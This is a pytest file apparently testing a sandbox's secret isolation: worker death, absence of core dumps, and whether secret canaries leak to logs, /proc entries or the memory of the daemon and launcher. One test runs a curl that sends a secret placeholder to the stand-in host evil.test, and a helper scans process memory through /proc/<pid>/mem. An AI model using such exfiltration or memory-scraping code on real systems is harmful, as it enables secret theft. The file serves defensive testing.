# SPDX-License-Identifier: Apache-2.0
"""Cases 79 and 81: when the worker dies, and where a value may have been left."""

import base64
import json
import os
import pathlib
import signal

import pytest
from egress_bench import ALLOWED, S1, S2, SECRETS, Box, forms_of
from harness.instance import alive, wait_until


def test_case_79_without_its_worker_there_is_no_network(lab):
    before = set(lab.instance.workers())
    box = Box(lab, allow_net=ALLOWED, secrets=SECRETS)
    worker, = set(lab.instance.workers()) - before
    assert box.ok("-k", "https://files.test/") == "ok"
    box.sandbox.spawn("bash", "-c", "while :; do curl -sk -m 1 https://files.test/late; done",
                      stdout="null", stderr="null")
    os.kill(lab.instance.launcher(), signal.SIGSTOP)
    try:
        os.kill(worker, signal.SIGKILL)
        wait_until(lambda: not alive(worker))
        lab.good.forget()
        with pytest.raises(AssertionError):
            wait_until(lambda: lab.good.connections, timeout=1.5)
    finally:
        os.kill(lab.instance.launcher(), signal.SIGCONT)
    box.sandbox.wait_closed()
    assert not list(lab.instance.state.rglob("core*"))


def test_case_79_a_worker_leaves_no_core_and_is_not_readable(lab, box):
    worker = lab.instance.workers()[-1]
    limits = pathlib.Path(f"/proc/{worker}/limits").read_text()
    core = next(line for line in limits.splitlines() if line.startswith("Max core file size"))
    assert core.split()[4] == "0"
    # Not dumpable: its files in /proc belong to root, whoever it runs as.
    assert pathlib.Path(f"/proc/{worker}/mem").stat().st_uid == 0


def test_case_81_canary_search(lab, box):
    """Nowhere on the host but in the memory of the worker: not in a log, an audit line, an environment,
    a command line, or the state directory."""
    p1 = box.placeholder("S1")
    box.ok("https://api.test/canary", "-H", f"Authorization: Bearer {p1}")
    box.curl("http://api.test/canary", "-H", f"x: {p1}")
    box.curl("https://evil.test/canary", "-H", f"x: {p1}")
    canaries = [form for value in (S1, S2) for form in forms_of(value)]
    places = [*lab.instance.state.rglob("*")]
    for process in (lab.instance.pid, *lab.instance.descendants()):
        places += [pathlib.Path(f"/proc/{process}/{name}") for name in ("environ", "cmdline")]
    checked = 0
    for place in places:
        try:
            data = place.read_bytes() if place.stat().st_size < 64 << 20 else b""
        except (OSError, ProcessLookupError):
            continue  # a folder, or a process that just ended
        checked += 1
        assert not any(canary in data for canary in canaries), place
    assert checked > 4


def memory_holds(pid: int, needles: list[bytes]) -> bytes | None:
    """The first of the needles that stands in the process's writable memory."""
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
        for line in open(f"/proc/{pid}/maps"):
            span, mode = line.split()[:2]
            if "r" not in mode or "[vv" in line:
                continue
            low, high = (int(n, 16) for n in span.split("-"))
            try:
                memory.seek(low)
                data = memory.read(high - low)
            except OSError:
                continue
            for needle in needles:
                if needle in data:
                    return needle
    return None


def test_the_value_is_not_in_the_daemon_s_or_the_launcher_s_memory(lab):
    value = "sk-memory-search-" + os.urandom(20).hex()
    box = Box(lab, allow_net=["api.test"], secrets={"K": {"hosts": ["api.test"], "value": value}})
    try:
        placeholder = box.placeholder("K")
        box.ok("https://api.test/memory", "-H", f"x-key: {placeholder}")
        assert lab.good.last().header("x-key") == value
        config = json.dumps({"memory_mb": 1024, "allow_net": ["api.test"],
                             "secrets": {"K": {"hosts": ["api.test"], "value": value}}}).encode()
        encoded = base64.b64encode(config)
        at = config.index(value.encode())
        middle = encoded[(at + 2) // 3 * 4:(at + len(value)) // 3 * 4]
        needles = [value.encode(), middle, value[:24].encode()]
        for name, pid in (("casemated", lab.instance.pid), ("launcher", lab.instance.launcher())):
            assert memory_holds(pid, needles) is None, f"the value is in the memory of {name}"
        assert memory_holds(lab.instance.workers()[-1], needles) is not None, "the search works"
    finally:
        box.close()
